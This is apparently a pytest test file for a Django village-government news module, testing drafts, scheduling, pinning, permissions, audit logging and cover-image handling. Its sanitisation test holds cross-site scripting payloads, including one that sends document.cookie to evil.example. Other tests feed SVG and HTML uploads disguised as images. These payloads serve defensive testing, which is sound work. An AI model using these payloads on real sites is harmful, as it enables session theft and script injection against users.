"""News and announcements: drafts, scheduled publishing, pins, sanitised text, cover images, audit."""

from __future__ import annotations

import datetime as dt
import io
from typing import cast

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from PIL import Image, ImageCms

from padu.core.actors import OPERATOR, Actor
from padu.core.errors import Conflict, Forbidden, InvalidInput
from padu.core.models import AuditEvent
from padu.core.richtext import RichTextTooLarge
from padu.core.roles import Role
from padu.publications.models import NewsItem, NewsStatus
from padu.publications.selectors import news_cover_get, news_public, news_public_get
from padu.publications.services import (
    news_cover_remove,
    news_cover_set,
    news_create,
    news_publish,
    news_unpublish,
    news_update,
)
from tests.factories import actor_for, make_agency, make_staff

pytestmark = pytest.mark.django_db


@pytest.fixture
def agency():
    return make_agency()


@pytest.fixture
def editor(agency):
    return actor_for(make_staff(agency, Role.INFORMATION_OFFICER))


def image_bytes(fmt: str = "PNG", size=(40, 30), mode="RGB", exif: bytes | None = None) -> bytes:
    out = io.BytesIO()
    image = Image.new(mode, size, (200, 30, 30) if mode == "RGB" else (200, 30, 30, 128))
    kwargs = {"exif": exif} if exif else {}
    image.save(out, format=fmt, **kwargs)
    return out.getvalue()


def draft(agency, editor, **kw):
    fields = {"title": "Posyandu Balita Bulan Desember", "body": "<p>Posyandu dibuka pukul 08.00.</p>", **kw}
    return news_create(actor=editor, agency=agency, **fields)


def test_a_draft_is_invisible_until_published(agency, editor):
    item = draft(agency, editor)
    assert item.status == NewsStatus.DRAFT and item.slug == "posyandu-balita-bulan-desember"
    assert list(news_public()) == []
    news_publish(actor=editor, item=item)
    assert [i.pk for i in news_public(agency=agency)] == [item.pk]
    assert news_public_get(agency.slug, item.slug).pk == item.pk
    news_unpublish(actor=editor, item=item)
    assert list(news_public()) == []
    verbs = list(
        AuditEvent.objects.filter(object_type="publications.newsitem", object_id=str(item.pk)).values_list(
            "verb", flat=True
        )
    )
    assert verbs == ["news.created", "news.published", "news.unpublished"]


def test_scheduled_item_appears_only_from_its_time(agency, editor):
    item = draft(agency, editor)
    later = timezone.now() + dt.timedelta(days=2)
    news_publish(actor=editor, item=item, publish_at=later)
    assert list(news_public()) == []
    assert AuditEvent.objects.filter(
        verb="news.scheduled", object_type="publications.newsitem", object_id=str(item.pk)
    ).exists()
    with time_machine.travel(later + dt.timedelta(minutes=1)):
        assert [i.pk for i in news_public()] == [item.pk]


def test_a_scheduled_item_may_be_rescheduled_but_a_public_one_not_published_twice(agency, editor):
    item = draft(agency, editor)
    news_publish(actor=editor, item=item, publish_at=timezone.now() + dt.timedelta(days=2))
    item = news_publish(actor=editor, item=item, publish_at=timezone.now() + dt.timedelta(days=1))
    assert item.publish_at is not None and item.publish_at > timezone.now()
    with time_machine.travel(timezone.now() + dt.timedelta(days=1, hours=1)):
        with pytest.raises(Conflict) as caught:
            news_publish(actor=editor, item=item)
        assert caught.value.code == "news_already_published"


def test_publication_time_in_the_past_is_refused(agency, editor):
    item = draft(agency, editor)
    with pytest.raises(InvalidInput) as caught:
        news_publish(actor=editor, item=item, publish_at=timezone.now() - dt.timedelta(days=3))
    assert "publish_at" in caught.value.errors


def test_pinned_announcements_come_first_until_the_pin_ends(agency, editor):
    old = draft(agency, editor, title="Pengumuman Pemadaman Air", kind="announcement")
    news_publish(actor=editor, item=old)
    pin_end = timezone.now() + dt.timedelta(days=3)
    news_update(actor=editor, item=old, pinned_until=pin_end)
    with time_machine.travel(timezone.now() + dt.timedelta(hours=1)):
        newer = draft(agency, editor, title="Kerja Bakti")
        news_publish(actor=editor, item=newer)
        assert [i.title for i in news_public()] == ["Pengumuman Pemadaman Air", "Kerja Bakti"]
    with time_machine.travel(pin_end + dt.timedelta(hours=1)):
        assert [i.title for i in news_public()] == ["Kerja Bakti", "Pengumuman Pemadaman Air"]


def test_only_announcements_can_be_pinned(agency, editor):
    with pytest.raises(InvalidInput) as caught:
        draft(agency, editor, pinned_until=timezone.now() + dt.timedelta(days=1))
    assert "pinned_until" in caught.value.errors


@pytest.mark.parametrize(
    "hostile",
    [
        '<p>Halo</p><script>document.location="https://evil.example/?c="+document.cookie</script>',
        '<p onmouseover="alert(1)">Halo</p>',
        '<p>Halo <a href="javascript:alert(1)">klik</a></p>',
        '<p>Halo <a href="data:text/html,<script>alert(1)</script>">klik</a></p>',
        '<p>Halo</p><iframe src="https://www.youtube.com/embed/x"></iframe>',
        "<p>Halo</p><svg><script>alert(1)</script></svg><img src=x onerror=alert(1)>",
    ],
)
def test_hostile_body_is_stored_sanitised(agency, editor, hostile):
    item = draft(agency, editor, body=hostile)
    stored = NewsItem.objects.get(pk=item.pk).body
    assert stored.startswith("<p>Halo")
    for needle in ("<script", "onmouseover", "javascript:", "data:", "<iframe", "<svg", "onerror"):
        assert needle not in stored


def test_huge_body_is_refused_with_a_clear_error(agency, editor):
    with pytest.raises(RichTextTooLarge) as caught:
        draft(agency, editor, body="<p>" + "x" * 300_000 + "</p>")
    assert caught.value.errors["body"]
    assert NewsItem.objects.count() == 0


def test_a_body_with_nothing_left_after_sanitising_is_refused(agency, editor):
    with pytest.raises(InvalidInput) as caught:
        draft(agency, editor, body="<script>alert(1)</script>")
    assert "body" in caught.value.errors


def test_slugs_are_unique_per_agency(agency, editor):
    first = draft(agency, editor)
    second = draft(agency, editor)
    assert second.slug == f"{first.slug}-2"
    with pytest.raises(Conflict):
        news_update(actor=editor, item=second, slug=first.slug)
    other = make_agency(name="Pemerintah Desa Cileunyi Wetan", region="32.04.05.2002")
    assert draft(other, OPERATOR).slug == first.slug
    assert draft(agency, editor, title="RSS").slug == "rss-berita"


def test_edit_is_audited_with_the_changed_fields(agency, editor):
    item = draft(agency, editor)
    news_update(actor=editor, item=item, title="Posyandu Diundur", summary="Diundur sepekan.")
    event = AuditEvent.objects.filter(verb="news.edited").get()
    assert event.changes["fields"] == ["summary", "title"]


def test_only_the_admin_or_the_ppid_publishes(agency):
    clerk = actor_for(make_staff(agency, Role.FRONT_DESK))
    with pytest.raises(Forbidden):
        draft(agency, clerk)
    admin = actor_for(make_staff(agency, Role.AGENCY_ADMIN))
    item = draft(agency, admin)
    with pytest.raises(Forbidden):
        news_publish(actor=clerk, item=item)
    other_admin = actor_for(make_staff(make_agency(name="Desa Lain", region="32.04.05.2002"), Role.AGENCY_ADMIN))
    with pytest.raises(Forbidden):
        news_update(actor=other_admin, item=item, title="Diambil alih")


def test_cover_is_re_encoded_without_metadata(agency, editor):
    item = draft(agency, editor)
    exif = Image.Exif()
    exif[0x010F] = "KameraRahasia"  # Make
    data = image_bytes("JPEG", size=(2400, 1200), exif=exif.tobytes())
    item = news_cover_set(actor=editor, item=item, upload=SimpleUploadedFile("foto.jpg", data), alt="Warga di posyandu")
    assert item.cover_content_type == "image/jpeg"
    assert (item.cover_width, item.cover_height) == (1600, 800)
    stored = item.cover.read()
    assert b"KameraRahasia" not in stored
    assert stored.startswith(b"\xff\xd8\xff")


def test_cover_loses_its_comment_and_colour_profile(agency, editor):
    """Pillow copies a JPEG comment and an ICC profile into a re-encoded file unless told not to."""
    item = draft(agency, editor)
    source = io.BytesIO()
    Image.new("RGB", (40, 20), (200, 30, 30)).save(source, format="JPEG", comment=b"Rumah Pak RT, Jl. Melati 7")
    item = news_cover_set(
        actor=editor, item=item, upload=SimpleUploadedFile("foto.jpg", source.getvalue()), alt="Rapat desa"
    )
    stored = item.cover.read()
    assert b"Jl. Melati" not in stored
    with Image.open(io.BytesIO(stored)) as picture:
        assert "comment" not in picture.info and "icc_profile" not in picture.info
        red, green, blue = cast(tuple[int, int, int], picture.getpixel((20, 10)))
        assert red > 180 and green < 60 and blue < 60  # the picture itself survives

    png = io.BytesIO()
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    Image.new("RGBA", (10, 10), (0, 0, 255, 128)).save(png, format="PNG", icc_profile=profile)
    item = news_cover_set(actor=editor, item=item, upload=SimpleUploadedFile("logo.png", png.getvalue()), alt="Logo")
    with Image.open(item.cover) as picture:
        assert "icc_profile" not in picture.info
        assert cast(tuple[int, ...], picture.getpixel((5, 5)))[3] == 128  # transparency kept


def test_cover_keeps_transparency_as_png(agency, editor):
    item = draft(agency, editor)
    data = image_bytes("PNG", mode="RGBA")
    item = news_cover_set(actor=editor, item=item, upload=SimpleUploadedFile("logo.png", data), alt="Logo desa")
    assert item.cover_content_type == "image/png"


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("foto.png", b"<html><script>alert(1)</script></html>", "cover_type_not_allowed"),
        ("foto.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "cover_type_not_allowed"),
        ("foto.gif", b"GIF89a" + b"\x00" * 20, "cover_type_not_allowed"),
        ("foto.png", b"\x89PNG\r\n\x1a\n" + b"rusak" * 10, "cover_invalid"),
        ("foto.jpg", b"", "file_empty"),
        ("foto.jpg", b"\xff\xd8\xff" + b"\x00" * (5 * 1024 * 1024 + 1), "file_too_large"),
    ],
)
def test_bad_covers_are_refused(agency, editor, name, data, code):
    item = draft(agency, editor)
    with pytest.raises(InvalidInput) as caught:
        news_cover_set(actor=editor, item=item, upload=SimpleUploadedFile(name, data), alt="Foto")
    assert caught.value.code == code
    assert "cover" in caught.value.errors
    assert not NewsItem.objects.get(pk=item.pk).cover


def test_png_claiming_to_be_jpeg_is_refused(agency, editor):
    item = draft(agency, editor)
    data = b"\xff\xd8\xff" + image_bytes("PNG")[3:]
    with pytest.raises(InvalidInput):
        news_cover_set(actor=editor, item=item, upload=SimpleUploadedFile("a.jpg", data), alt="Foto")


def test_cover_needs_a_description(agency, editor):
    item = draft(agency, editor)
    with pytest.raises(InvalidInput) as caught:
        news_cover_set(actor=editor, item=item, upload=SimpleUploadedFile("a.png", image_bytes()), alt="  ")
    assert caught.value.code == "cover_alt_required"
    item = news_cover_set(actor=editor, item=item, upload=SimpleUploadedFile("a.png", image_bytes()), alt="Balai desa")
    with pytest.raises(InvalidInput) as caught:
        news_update(actor=editor, item=item, cover_alt="")
    assert "cover_alt" in caught.value.errors


def test_cover_of_a_draft_is_seen_only_by_its_publishers(agency, editor):
    item = draft(agency, editor)
    news_cover_set(actor=editor, item=item, upload=SimpleUploadedFile("a.png", image_bytes()), alt="Balai desa")
    anonymous = Actor()
    with pytest.raises(Exception):  # noqa: B017 - NotFound
        news_cover_get(anonymous, item.pk)
    assert news_cover_get(editor, item.pk).pk == item.pk
    news_publish(actor=editor, item=item)
    assert news_cover_get(anonymous, item.pk).pk == item.pk
    news_cover_remove(actor=editor, item=item)
    assert not NewsItem.objects.get(pk=item.pk).cover
